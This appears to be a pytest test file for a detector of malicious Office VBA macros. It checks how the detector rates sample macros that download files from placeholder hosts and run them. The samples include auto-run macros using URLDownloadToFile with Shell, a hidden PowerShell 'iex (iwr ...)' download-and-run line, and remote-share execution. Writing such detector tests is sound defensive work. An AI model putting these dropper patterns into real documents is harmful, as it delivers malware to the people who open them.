"""Macros that fetch, write or hide what they run, and honest ones that look like them. Every text is ours and inert."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.looking import HERE, found

from mimawari.model import Finding, OfficeDocument, Strength
from mimawari.model.office import Module, VbaProject

_TEXTS = Path(__file__).parent / "macro_texts"
_HEAD = re.compile(r"(?m)^'#### (word|excel): (.+)$")


def texts(name: str) -> list[tuple[str, str, str]]:
    """Application, what it is, and the source of each macro of a file."""
    _, *parts = _HEAD.split((_TEXTS / name).read_text("utf-8"))
    return [(parts[at], parts[at + 1], parts[at + 2].strip()) for at in range(0, len(parts), 3)]


def said(source: str, application: str = "word", **project: object) -> list[Finding]:
    """What the detector says of a document with one module."""
    vba = VbaProject(modules=(Module(name="Module1", source=source),), **project)  # type: ignore[arg-type]
    one = OfficeDocument(origin=HERE.at("a.doc"), name="a.doc", application=application, vba=vba)
    return found((one,), (), "macro-delivery")


@pytest.mark.parametrize(
    ("application", "name", "source"), texts("droppers.bas"), ids=[name for _, name, _ in texts("droppers.bas")]
)
def test_droppers_are_found(application: str, name: str, source: str) -> None:
    assert [one.strength for one in said(source, application)] == [Strength.STRONG], name


@pytest.mark.parametrize(("application", "name", "source"), texts("honest.bas"), ids=[name for _, name, _ in texts("honest.bas")])
def test_honest_macros_are_a_hint_at_most(application: str, name: str, source: str) -> None:
    assert [one.strength for one in said(source, application) if one.strength > Strength.HINT] == [], name


def test_there_are_enough_of_both() -> None:
    assert len(texts("droppers.bas")) >= 70
    assert len(texts("honest.bas")) >= 96


@pytest.mark.parametrize(
    ("address", "saved", "strength"),
    [
        ("https://www.example.jp/a.exe", "a.exe", Strength.STRONG),
        ("http://192.0.2.7/a", "a", Strength.STRONG),
        ("https://www.example.jp/get?id=1", "a.scr", Strength.STRONG),
        ("https://www.example.jp/a.pdf", "a.pdf", None),
        ("https://www.example.jp/a.xlsx", "a.xlsx", None),
        ("http://192.168.1.9/a", "a", Strength.HINT),
        ("http://192.0.2.7/a.csv", "a.csv", None),
    ],
)
def test_what_is_fetched_decides(address: str, saved: str, strength: Strength | None) -> None:
    source = f"""
Sub Workbook_Open()
p = Environ("TEMP") & "\\{saved}"
URLDownloadToFile 0, "{address}", p, 0, 0
Shell "cmd /c start " & p, vbNormalFocus
End Sub
"""
    assert [one.strength for one in said(source, "excel")] == ([strength] if strength else [])


def test_a_removed_source_that_fetches_is_found() -> None:
    names = ("AutoOpen", "URLDownloadToFileA", "http://s0.example.com/a.exe", "Shell", "Environ")
    assert [one.strength for one in said("", stomped=True, compiled=names)] == [Strength.STRONG]
    command = ("AutoOpen", "Shell", "powershell -w hidden iex (iwr http://192.0.2.4/a.ps1)")
    assert [one.strength for one in said('Sub AutoOpen()\nMsgBox "hi"\nEnd Sub', stomped=True, compiled=command)] == [
        Strength.STRONG
    ]


def test_a_removed_source_alone_is_a_hint_with_its_own_words() -> None:
    (one,) = said("", stomped=True, compiled=("Workbook_Open", "Range", "Value", "MsgBox"))
    assert one.strength is Strength.HINT
    assert "removed" in one.words.en
    assert "削除" in one.words.ja


def test_compiled_code_of_a_document_with_its_source_says_nothing() -> None:
    assert said("Sub AutoOpen()\nEnd Sub", compiled=("AutoOpen", "URLDownloadToFileA", "Shell")) == []


@given(cut=st.integers(0, 4000), at=st.integers(0, 4000), sign=st.characters(max_codepoint=0x3FF))
@settings(max_examples=60, deadline=None, derandomize=True)
def test_damaged_text_is_read(cut: int, at: int, sign: str) -> None:
    whole = "\n".join(source for _, _, source in texts("droppers.bas"))
    start = at % len(whole)
    said(whole[start : start + cut] + sign + whole[start + cut + 1 : start + cut + 500])


@pytest.mark.parametrize(
    ("place", "strength"),
    [
        (r"C:\ProgramData\a.dll", Strength.HINT),
        (r"C:\Users\Public\a.dll", Strength.HINT),
        (r"C:\ProgramData\House\a.dll", None),
        (r"C:\Users\suzuki\source\a.dll", None),
    ],
)
def test_a_library_declared_in_an_open_folder_is_a_hint(place: str, strength: Strength | None) -> None:
    source = f'Private Declare PtrSafe Sub Go Lib "{place}" ()\nSub AutoOpen()\nGo\nEnd Sub'
    assert [one.strength for one in said(source)] == ([strength] if strength else [])


@pytest.mark.parametrize(
    ("server", "strength"),
    [("192.0.2.8", Strength.STRONG), ("host.example.com@ssl", Strength.STRONG), ("10.1.2.3", None), ("files.example.jp", None)],
)
def test_whose_share_a_program_is_on_decides(server: str, strength: Strength | None) -> None:
    source = f'Sub AutoOpen()\nShell "\\\\{server}\\pub\\a.exe", vbNormalFocus\nEnd Sub'
    assert [one.strength for one in said(source)] == ([strength] if strength else [])


@pytest.mark.parametrize("version", ["MSXML2.DOMDocument.6.0", "MSXML2.FreeThreadedDOMDocument.6.0"])
def test_a_style_sheet_that_may_run_no_script_is_not_strong(version: str) -> None:
    source = f'Sub AutoOpen()\nSet x = CreateObject("{version}")\nx.Load "http://s0.example.com/a.xsl"\nx.transformNode x\nEnd Sub'
    assert [one.strength for one in said(source) if one.strength is Strength.STRONG] == []
    allowed = source.replace("x.Load", 'x.setProperty "AllowXsltScript", True\nx.Load')
    assert [one.strength for one in said(allowed)] == [Strength.STRONG]


def test_a_fetched_text_of_another_procedure_is_not_what_is_run() -> None:
    source = """
Sub Workbook_Open()
h.Open "GET", "https://www.example.jp/a.txt", False
t = h.responseText
Start
End Sub
Sub Start()
t = Range("A1")
Shell t, vbNormalFocus
End Sub
"""
    assert [one.strength for one in said(source, "excel") if one.strength is Strength.STRONG] == []
